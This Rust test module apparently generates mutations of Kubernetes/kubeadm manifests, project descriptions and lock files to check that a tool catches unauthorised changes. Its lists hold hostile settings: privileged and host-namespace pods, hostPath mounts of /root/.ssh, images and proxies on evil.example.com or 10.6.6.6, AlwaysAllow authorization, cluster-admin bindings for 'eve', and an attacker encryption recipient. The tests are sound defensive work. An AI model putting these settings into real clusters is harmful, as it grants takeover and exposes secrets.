//! Single changes: of a manifest, of a description, of the lock and the tree.

use super::{Draw, Mutation};
use crate::testkit::memory_project::MemoryProject;

const SPEC_FIELDS: [&str; 12] = [
    "hostPID: true",
    "hostIPC: true",
    "shareProcessNamespace: true",
    "serviceAccountName: default",
    "automountServiceAccountToken: true",
    "hostAliases: [{ip: 10.6.6.6, hostnames: [etcd.internal]}]",
    "dnsConfig: {nameservers: [10.6.6.6]}",
    "runtimeClassName: other",
    "hostUsers: true",
    "initContainers: [{name: first, image: evil.example.com/first}]",
    "nodeSelector: {a: b}",
    "tolerations: [{operator: Exists}]",
];
const CONTAINER_FIELDS: [&str; 13] = [
    "lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}",
    "env: [{name: HTTPS_PROXY, value: 'http://10.6.6.6:3128'}]",
    "env: [{name: GODEBUG, value: x509sha1=1}]",
    "envFrom: [{secretRef: {name: extra}}]",
    "workingDir: /tmp",
    "stdin: true",
    "ports: [{containerPort: 1, hostPort: 1}]",
    "startupProbe: {exec: {command: [sh]}}",
    "terminationMessagePath: /etc/kubernetes/pki/ca.crt",
    "securityContext: {privileged: true}",
    "volumeDevices: [{name: disk, devicePath: /dev/sda}]",
    "args: [--profiling=true]",
    "restartPolicy: Always",
];
const FLAGS: [&str; 40] = [
    "anonymous-auth=true",
    "authorization-mode=AlwaysAllow",
    "authorization-webhook-config-file=/etc/kubernetes/pki/w",
    "etcd-servers-overrides=/events#http://10.6.6.6:2379",
    "external-hostname=evil.example.com",
    "master=http://10.6.6.6",
    "bind-address=0.0.0.0",
    "listen-metrics-urls=http://0.0.0.0:2381",
    "profiling=true",
    "profiling=false",
    "v=4",
    "request-timeout=30s",
    "max-requests-inflight=800",
    "event-ttl=2h",
    "kube-api-qps=50",
    "kube-api-burst=100",
    "feature-gates=AllAlpha=true",
    "runtime-config=api/all=true",
    "insecure-port=8080",
    "kubelet-certificate-authority=/etc/kubernetes/pki/other.crt",
    "token-auth-file=/etc/kubernetes/pki/tokens",
    "oidc-issuer-url=https://evil.example.com",
    "audit-log-path=/etc/cron.d/audit",
    "audit-webhook-config-file=/etc/kubernetes/pki/w",
    "admission-control-config-file=/etc/kubernetes/pki/a",
    "disable-admission-plugins=NodeRestriction",
    "enable-admission-plugins=NodeRestriction,AlwaysPullImages",
    "service-account-issuer=https://evil.example.com",
    "service-account-max-token-expiration=100000h",
    "tls-min-version=VersionTLS10",
    "proxy-client-key-file=/etc/kubernetes/pki/other.key",
    "allow-privileged=false",
    "cluster-signing-duration=876000h",
    "use-service-account-credentials=false",
    "leader-elect=false",
    "client-cert-auth=false",
    "peer-client-cert-auth=false",
    "auto-tls=true",
    "data-dir=/etc",
    "an-unknown-flag=1",
];

fn split(text: &str) -> Vec<String> {
    text.lines().map(str::to_owned).collect()
}

/// A value of its kind that is another.
fn other(draw: &mut Draw, value: &str) -> String {
    match value {
        "true" => "false".to_owned(),
        "false" => "true".to_owned(),
        _ => match value.parse::<i64>() {
            Ok(number) => (number + 1).to_string(),
            Err(_) => {
                format!("{value}{}", draw.one(&["x", "-other", ".evil.example.com", "/x"]))
            }
        },
    }
}

/// One place of a manifest in kubeadm's shape.
pub fn manifest(draw: &mut Draw, text: &str) -> (String, String) {
    let mut lines = split(text);
    let at = |lines: &[String], start: &str| lines.iter().position(|line| line.starts_with(start));
    let has_all = ["    image: ", "    volumeMounts:", "  volumes:"]
        .iter()
        .all(|start| at(&lines, start).is_some());
    let what = match draw.index(if has_all { 8 } else { 6 }) {
        0 | 1 => {
            let scalars: Vec<usize> = (0..lines.len())
                .filter(|at| lines[*at].contains(": ") || lines[*at].contains("- --"))
                .collect();
            let place = scalars[draw.index(scalars.len())];
            let line = lines[place].clone();
            let cut = line
                .find('=')
                .or_else(|| line.find(": ").map(|at| at + 1))
                .unwrap_or(line.len() - 1);
            let value = other(draw, line[cut + 1..].trim());
            lines[place] = format!("{}{value}", &line[..=cut]);
            lines[place].trim().to_owned()
        }
        2 => {
            let place = draw.index(lines.len());
            format!("without {}", lines.remove(place).trim())
        }
        3 | 4 => {
            let flags: Vec<usize> =
                (0..lines.len()).filter(|at| lines[*at].contains("- --")).collect();
            let place = flags[draw.index(flags.len())];
            let flag = draw.one(&FLAGS);
            let name = flag.split_once('=').unwrap().0;
            let line = format!("    - --{flag}");
            match flags.iter().find(|at| lines[**at].contains(&format!("--{name}="))) {
                Some(known) => lines[*known].clone_from(&line),
                None => lines.insert(place, line.clone()),
            }
            line.trim().to_owned()
        }
        5 => {
            let place = at(&lines, "spec:").unwrap() + 1;
            let field = draw.one(&SPEC_FIELDS);
            lines.insert(place, format!("  {field}"));
            field.to_owned()
        }
        6 => {
            let place = at(&lines, "    image: ").unwrap();
            let field = draw.one(&CONTAINER_FIELDS);
            lines.insert(place, format!("    {field}"));
            field.to_owned()
        }
        _ => {
            let host =
                draw.one(&["/", "/etc", "/root/.ssh", "/var/lib/kubelet", "/etc/kubernetes/other"]);
            let inside =
                draw.one(&["/host", "/etc/kubernetes/pki/ca.crt", "/etc/ssl/certs/", "/mnt"]);
            let mounts = at(&lines, "    volumeMounts:").unwrap() + 1;
            lines.insert(mounts, format!("    - {{mountPath: {inside}, name: more}}"));
            let volumes = at(&lines, "  volumes:").unwrap() + 1;
            lines.insert(volumes, format!("  - {{name: more, hostPath: {{path: {host}}}}}"));
            format!("{host} at {inside}")
        }
    };
    (lines.join("\n") + "\n", what)
}

/// Blocks that give somebody something: each must stop.
const POWER: [&str; 27] = [
    "user \"eve\" { bind cluster-role=\"cluster-admin\" }",
    "user \"eve\" { bind cluster-role=\"edit\" }",
    "user \"eve\" { bind cluster-role=\"secret-admin\" namespace=\"shop\" }",
    "user \"eve\" { bind cluster-role=\"edit\" namespace=\"kube-system\" }",
    "user \"eve\" { bind cluster-role=\"admin\" namespace=\"kube-public\" }",
    "user \"eve\" { bind role=\"anything\" namespace=\"shop\" }",
    "user \"eve\" { common-name \"system:kube-controller-manager\" }",
    "user \"eve\" { group \"system:masters\"; allow-masters #true }",
    "user \"eve\" { group \"kubeadm:cluster-admins\" }",
    "user \"eve\" { via \"csr\"; bind cluster-role=\"cluster-admin\" }",
    "node \"w9\" address=\"10.77.0.9\" { recipient \"MALLORY\" }",
    "secrets { recipient \"MALLORY\" }",
    "node \"cp9\" role=\"control-plane\" address=\"10.77.0.9\"",
    "component \"kubelet\" serving=#true; node \"w9\" address=\"203.0.113.9\"",
    "certificate \"ms\" { san \"kubernetes.default\"; node \"NODE\" }",
    "certificate \"ms\" { san \"bank.example.com\"; node \"NODE\" }",
    "certificate \"ms\" ca=\"etcd\" usage=\"client\" { common-name \"root\"; node \"NODE\" }",
    "component \"apiserver\" { san \"bank.example.com\" }",
    "component \"apiserver\" { flag \"etcd-servers-overrides\" \"/events#http://10.6.6.6:2379\" }",
    "component \"apiserver\" { flag \"anonymous-auth\" #true }",
    "component \"apiserver\" { flag \"audit-log-path\" \"/etc/cron.d/audit\" }",
    "component \"scheduler\" { flag \"master\" \"http://10.6.6.6\" }",
    "component \"controller-manager\" { flag \"cluster-signing-duration\" \"876000h\" }",
    "component \"etcd\" image=\"registry.k8s.io/etcd:3.4.13-0\"",
    "component \"etcd\" { flag \"data-dir\" \"/etc\" }",
    "component \"etcd\" { flag \"client-cert-auth\" #false }",
    "component \"apiserver\" { flag \"authorization-mode\" \"AlwaysAllow\" }",
];
const RECIPIENTS: &str = "recipients.txt";
/// Anybody's key.
const MALLORY: &str = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";

/// Blocks of every day: told, and stopped by nobody's rule here.
const ORDINARY: [&str; 8] = [
    "user \"pat\" { bind cluster-role=\"view\" namespace=\"shop\" }",
    "user \"pat\" { bind cluster-role=\"edit\" namespace=\"shop\" }",
    "user \"pat\" { bind cluster-role=\"view\" }",
    "node \"w99\" address=\"10.77.0.99\"",
    "component \"apiserver\" { flag \"v\" 4 }",
    "component \"scheduler\" { flag \"profiling\" #false }",
    "component \"controller-manager\" { flag \"kube-api-qps\" 50 }",
    "component \"kubelet\" serving=#true",
];

pub fn description(draw: &mut Draw, base: &MemoryProject, node: &str) -> Mutation {
    let mut project = base.clone();
    let text = &base.description;
    let (what, is_power) = match draw.index(4) {
        0 if base.extra.contains_key(RECIPIENTS) && draw.index(2) == 0 => {
            let file = project.extra.get_mut(RECIPIENTS).unwrap();
            file.extend(format!("\n{MALLORY}\n").bytes());
            ("mallory in the file of recipients".to_owned(), true)
        }
        0 | 1 => {
            let block = draw.one(&POWER).replace("NODE", node).replace("MALLORY", MALLORY);
            project.description = with_block(text, &block);
            (block, true)
        }
        2 => {
            let block = draw.one(&ORDINARY).to_owned();
            project.description = with_block(text, &block);
            (block, false)
        }
        _ => {
            let (changed, what) = token(draw, text);
            project.description = changed;
            (what, false)
        }
    };
    Mutation { what, project, is_power }
}

/// A component is described once: the words join its block.
fn with_block(text: &str, block: &str) -> String {
    let mut words = block.split('"');
    let start = format!("component \"{}\"", words.nth(1).unwrap());
    if block.starts_with("component") && text.contains(&start) {
        // Another block of the same component is a mistake of the description, and refused.
        if let Some((_, body)) = block.split_once('{')
            && let Some((before, after)) = text.split_once(&format!("{start} {{"))
        {
            return format!("{before}{start} {{ {}\n{after}", body.trim_end_matches('}'));
        }
    }
    format!("{text}\n{block}\n")
}

/// One value of the description is another.
fn token(draw: &mut Draw, text: &str) -> (String, String) {
    let quoted: Vec<(usize, usize)> = {
        let marks: Vec<usize> = text.match_indices('"').map(|(at, _)| at).collect();
        marks.chunks_exact(2).map(|pair| (pair[0] + 1, pair[1])).collect()
    };
    let (start, end) = quoted[draw.index(quoted.len())];
    let value = &text[start..end];
    let new = match value.rfind(|c: char| c.is_ascii_digit()) {
        Some(at) if draw.index(2) == 0 => {
            let digit = (value.as_bytes()[at] - b'0' + 1) % 10;
            format!("{}{digit}{}", &value[..at], &value[at + 1..])
        }
        _ => format!("{value}{}", draw.one(&["x", "2", "-b", "/8"])),
    };
    (format!("{}{new}{}", &text[..start], &text[end..]), format!("{value:?} becomes {new:?}"))
}

fn extension(path: &str) -> &str {
    path.rsplit('.').next().unwrap_or_default()
}

/// Something in the tree or the lock that nobody described.
pub fn tree(draw: &mut Draw, base: &MemoryProject) -> Mutation {
    let mut project = base.clone();
    let public: Vec<String> =
        base.out.keys().filter(|path| matches!(extension(path), "crt" | "yaml")).cloned().collect();
    let file = public[draw.index(public.len())].clone();
    match draw.index(3) {
        0 => {
            let lines: Vec<&str> = base.lock.as_ref().unwrap().lines().collect();
            let gone = 1 + draw.index(lines.len() - 1);
            let mut kept = lines.clone();
            let line = kept.remove(gone);
            project.lock = Some(kept.join("\n") + "\n");
            Mutation { what: format!("lock without {line}"), project, is_power: false }
        }
        1 => {
            let user = "user \"eve\" { bind cluster-role=\"cluster-admin\" }";
            project.description = format!("{}\n{user}\n", base.description);
            let mut eve = project.clone();
            eve.apply().unwrap();
            project
                .out
                .insert("users/eve/rbac.yaml".into(), eve.out["users/eve/rbac.yaml"].clone());
            let bytes = base.out[&file].clone();
            if extension(&file) == "crt" {
                project.out.insert("users/eve/eve.crt".into(), bytes);
            }
            Mutation { what: format!("eve's bindings and {file} planted"), project, is_power: true }
        }
        _ => {
            let other = public[draw.index(public.len())].clone();
            let bytes = base.out[&other].clone();
            project.out.insert(file.clone(), bytes);
            Mutation {
                what: format!("{other} put in the place of {file}"),
                project,
                is_power: false,
            }
        }
    }
}
